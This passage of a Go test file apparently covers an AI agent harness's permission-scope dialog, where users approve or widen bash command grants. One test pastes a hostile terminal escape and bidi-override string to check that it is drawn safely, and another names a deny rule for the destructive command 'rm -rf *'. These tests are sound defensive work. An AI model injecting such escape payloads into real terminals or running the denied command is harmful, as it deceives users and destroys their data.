	if !strings.Contains(screen, "not judged here against the asking host's policy: if it passes a deny rule not named here, that host refuses it and the ask is shown again") {
		t.Fatalf("the dialog does not say the host may refuse the edit:\n%s", screen)
	}
}

// A reload that drops the marked choice does not leave the mark on the
// next one in its place, which may be wider: the first choice is marked.
func TestARescopeKeepsTheMarkedKind(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	a := bashChain()
	opt := func(k serve.ScopeKind) serve.Scope { return serve.Scope{Kind: k, Title: string(k)} }
	a.Scopes = serve.Scopes{Options: []serve.Scope{opt(serve.ScopeSubagent), opt(serve.ScopeSubagentBoth), opt(serve.ScopeSession)}}
	h.queue(a)
	chooseScope(h, serve.ScopeSubagentBoth)
	h.events(serve.ScopesChanged{Ask: a.ID, Scopes: serve.Scopes{Rev: 1,
		Options: []serve.Scope{opt(serve.ScopeSubagent), opt(serve.ScopeSession)}}})
	if got := h.m.scope.scopes.Options[h.m.scope.chosen].Kind; got != serve.ScopeSubagent {
		t.Fatalf("marked %s after the reload dropped subagent_both, want subagent", got)
	}
	h.events(serve.ScopesChanged{Ask: a.ID, Scopes: serve.Scopes{Rev: 2,
		Options: []serve.Scope{opt(serve.ScopeSession), opt(serve.ScopeSubagent)}}})
	if got := h.m.scope.scopes.Options[h.m.scope.chosen].Kind; got != serve.ScopeSubagent {
		t.Fatalf("marked %s after a reload moved subagent, want subagent", got)
	}
}

// The status names an edit and the suggestion it widens as the dialog's
// lines name a pattern (blanked): two spaces show as ␠␠, not one space.
func TestTheScopeStatusShowsAPatternsBlanks(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	a := suggesting("ls  -la", []wire.Grant{{Surface: "bash", Pattern: "ls  *"}}, reachPolicy(t))
	h.queue(a)
	chooseScope(h, serve.ScopeSession)
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("l*")})
	h.keys("enter", "enter")
	h.wantStatus("wider than the child's suggestion ls␠␠*")
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("ls  -l*")})
	h.keys("enter", "enter")
	h.wantStatus("with ls␠␠-l*")
}

// A pattern pasted into the scope dialog's edit is taken (it was dropped),
// shown as the rule dialog shows a paste, and gated as a typed one: wider
// than the suggestion and past a deny rule, it takes a second enter and
// the decision names the deny rules shown.
func TestAPastedScopeEditIsShownSafeAndGatedAsTyped(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	policy := reachPolicy(t)
	a := suggesting("ls -la", []wire.Grant{{Surface: "bash", Pattern: "ls *"}}, policy)
	h.backend.reach = func(id serve.AskID, kind serve.ScopeKind, gs []wire.Grant) ([]serve.Reach, bool) {
		return serve.EditedReach(a.Request, kind, gs, policy), id == a.ID
	}
	h.queue(a)
	chooseScope(h, serve.ScopeSession)
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("e*"), Paste: true}) // not editing: no key
	if h.m.scope.editing || h.m.scope.pattern() != "" {
		t.Fatalf("a paste outside the edit acted: editing %v, pattern %q", h.m.scope.editing, h.m.scope.pattern())
	}
	h.keys("e", "ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(hostilePaste), Paste: true})
	wantDrawnSafe(t, h.m.View())
	if got := h.m.scope.pattern(); got != "]0;pwned[2Jstop⟨U+202E⟩31m⟨U+200B⟩now" {
		t.Fatalf("pasted pattern %q, want it shown as pasted", got)
	}
	h.keys("ctrl+u")
	h.send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune("*"), Paste: true})
	h.keys("enter")
	if screen := strings.Join(strings.Fields(ansi.Strip(h.m.View())), " "); !strings.Contains(screen, "⚠ wider than the child's suggestion ls *") {
		t.Fatalf("the pasted widening is not named:\n%s", screen)
	}
	h.keys("enter")
	h.wantDecisions()
	h.wantStatus("deny rule bash rm -rf *")
	h.keys("enter")
	h.wantDecisions(serve.Decision{Ask: a.ID, Scope: serve.ScopeSession, Grants: []wire.Grant{{Surface: "bash", Pattern: "*"}},
		EditDenies: []wire.Grant{{Surface: "bash", Pattern: "rm -rf *"}}})
}

// ↑ on the first choice and ↓ on the last move nowhere, so they change
// nothing: the lines seen of a tall choice stay seen and a kept edit stays
// (they started the choice over, so an extra ↓ dropped the edit unseen).
func TestArrowsAtTheEndsOfTheScopeDialogChangeNothing(t *testing.T) {
	h := newHarness(t)
	h.send(tea.WindowSizeMsg{Width: 60, Height: 20})
	a := wideSuggestion(t)
	var gs []wire.Grant
	for i := range 30 {
		gs = append(gs, wire.Grant{Surface: "bash", Pattern: "npm test:" + itoa(i)})
	}
	a.Request.SessionApproval.Grants = gs
	a.Scopes = serve.OfferedScopes(a.Request, reachPolicy(t))
	h.queue(a)
	chooseScope(h, serve.ScopeSubagent)
	h.keys("enter")
	seeWhole(h)
	h.keys("up")
	if !h.m.scope.seenWhole() {
		t.Fatal("↑ on the first choice forgot the lines seen")
	}

	e := newHarness(t)
	e.send(tea.WindowSizeMsg{Width: 100, Height: 40})
	e.queue(suggesting("ls -la", []wire.Grant{{Surface: "bash", Pattern: "ls *"}}, reachPolicy(t)))
	chooseScope(e, serve.ScopeSession)
	if last := len(e.m.scope.scopes.Options) - 1; e.m.scope.chosen != last {
		t.Fatalf("the whole session is choice %d of %d", e.m.scope.chosen, last)
	}
	e.keys("e", "ctrl+u", "ls -l*", "enter", "down")
	if got := e.m.scope.edited; got != "ls -l*" {
		t.Fatalf("↓ on the last choice left the edit %q", got)
	}
}
